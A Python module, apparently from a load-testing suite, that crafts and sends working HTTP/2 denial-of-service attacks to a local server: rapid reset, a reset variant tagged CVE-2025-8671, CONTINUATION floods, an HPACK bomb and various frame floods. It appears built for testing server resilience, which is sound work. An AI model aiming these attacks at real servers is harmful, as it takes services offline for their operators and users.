"""Attacks on HTTP/2, as octets that a client would send, and who sends them.

`python -m loadtest.http2_attacks NAME PORT SECONDS` attacks by one connection after the other, each
until the server ends it or all is sent, and prints one line: {"octets": .., "connections": ..}.
"""

import json
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass
from itertools import chain, repeat

from loadtest.address import LOOPBACK
from loadtest.http2_client import frame

PATH = b"/attack"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + frame(4, 1, 0)
_DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = (
    *(0, 1, 2, 3, 4, 6, 8, 9),
)
_END_STREAM, _END_HEADERS = 1, 4
# GET http://a/attack in HPACK (RFC 7541 appendix A), with nothing in it to be remembered.
_BLOCK = b"\x82\x86\x04" + bytes([len(PATH)]) + PATH + b"\x01\x01a"
_STREAMS = 20000  # that one connection opens
_MANY = 4000  # times that a small frame is sent in one piece
_PIECES = 1000  # such pieces, at the most, on one connection
_HELD = 0.5  # seconds that a connection is kept which only waits


def _ids() -> range:
    return range(1, 2 * _STREAMS, 2)


def _over_and_over(octets: bytes) -> Iterator[bytes]:
    return repeat(octets * _MANY, _PIECES)


def _get(stream: int, flags: int = _END_STREAM | _END_HEADERS, more: bytes = b"") -> bytes:
    return frame(_HEADERS, flags, stream, _BLOCK + more)


def _per_stream(make: Callable[[int], bytes]) -> Iterator[bytes]:
    ids = list(_ids())
    for at in range(0, len(ids), 500):
        yield b"".join(map(make, ids[at : at + 500]))


def _bomb(stream: int) -> bytes:
    """A field of 4,000 octets that HPACK remembers, and 8,000 times an octet that names it."""
    field = b"\x40\x01a\x7f" + bytes([0xA1, 0x1E]) + b"x" * 4000
    return _get(stream, more=field + b"\xbe" * 8000)


def _reset(code: int) -> Callable[[int], bytes]:
    return lambda stream: _get(stream) + frame(_RST_STREAM, 0, stream, struct.pack(">I", code))


def _made_to_reset(stream: int) -> bytes:
    """CVE-2025-8671: a window beyond all bounds, for which the server must reset the stream."""
    return _get(stream) + frame(_WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")


def _shut() -> Iterator[bytes]:
    yield frame(_SETTINGS, 0, 0, b"\0\4\0\0\0\0") + b"".join(map(_get, range(1, 200, 2)))


@dataclass(frozen=True, slots=True)
class Attack:
    """What one connection says.

    Attributes:
        pieces: what is sent behind the preface.
        held: the connection is kept for a moment when all is sent.
    """

    pieces: Callable[[], Iterator[bytes]]
    held: bool = False


ATTACKS = {
    "rapid reset": Attack(lambda: _per_stream(_reset(8))),
    "made to reset": Attack(lambda: _per_stream(_made_to_reset)),
    "streams unfinished": Attack(lambda: _per_stream(lambda one: _get(one, _END_HEADERS))),
    "CONTINUATION": Attack(lambda: chain([_get(1, 0)], _over_and_over(frame(_CONTINUATION, 0, 1)))),
    "long CONTINUATION": Attack(
        lambda: chain(
            [_get(1, 0)], repeat(frame(_CONTINUATION, 0, 1, b"\0\x01a\x7f\x80\x7d" + b"x" * 16127))
        )
    ),
    "HPACK bomb": Attack(lambda: _per_stream(_bomb)),
    "PING": Attack(lambda: _over_and_over(frame(_PING, 0, 0, b"12345678"))),
    "SETTINGS": Attack(lambda: _over_and_over(frame(_SETTINGS, 0, 0, b"\0\4\0\0\xff\xff"))),
    "WINDOW_UPDATE": Attack(lambda: _over_and_over(frame(_WINDOW_UPDATE, 0, 0, b"\0\0\0\x01"))),
    "PRIORITY": Attack(lambda: _over_and_over(frame(_PRIORITY, 0, 1, b"\0\0\0\0\x10"))),
    "empty DATA": Attack(
        lambda: chain([_get(1, _END_HEADERS)], _over_and_over(frame(_DATA, 0, 1)))
    ),
    "unknown frames": Attack(lambda: _over_and_over(frame(0xBE, 0, 0))),
    "wrong size": Attack(lambda: iter([frame(_PING, 0, 0, b"1234567")])),
    "wrong stream": Attack(lambda: iter([frame(_DATA, 0, 7, b"x")])),
    "windows shut": Attack(_shut, held=True),
}


@dataclass(slots=True)
class Sent:
    """What an attacker has got rid of."""

    octets: int = 0
    connections: int = 0


def attack(name: str, port: int, seconds: float) -> Sent:
    """Attack for so long."""
    sent, until = Sent(), time.monotonic() + seconds
    while time.monotonic() < until:
        with socket.create_connection((LOOPBACK, port), timeout=5) as connection:
            sent.connections += 1
            _use(connection, ATTACKS[name], until, sent)
    return sent


def _use(connection: socket.socket, what: Attack, until: float, sent: Sent) -> None:
    connection.setblocking(False)
    try:
        for piece in chain([PREFACE], what.pieces()):
            left = memoryview(piece)
            while left:
                readable, writable, _ = select.select([connection], [connection], [], 0.1)
                if (readable and not connection.recv(1 << 20)) or time.monotonic() > until:
                    return
                if writable:
                    count = connection.send(left)
                    sent.octets += count
                    left = left[count:]
        if what.held:
            until = min(until, time.monotonic() + _HELD)
        while time.monotonic() < until:
            if select.select([connection], [], [], 0.1)[0] and not connection.recv(1 << 20):
                return
    except OSError:
        pass  # the server has had enough


if __name__ == "__main__":
    print(json.dumps(asdict(attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3])))))
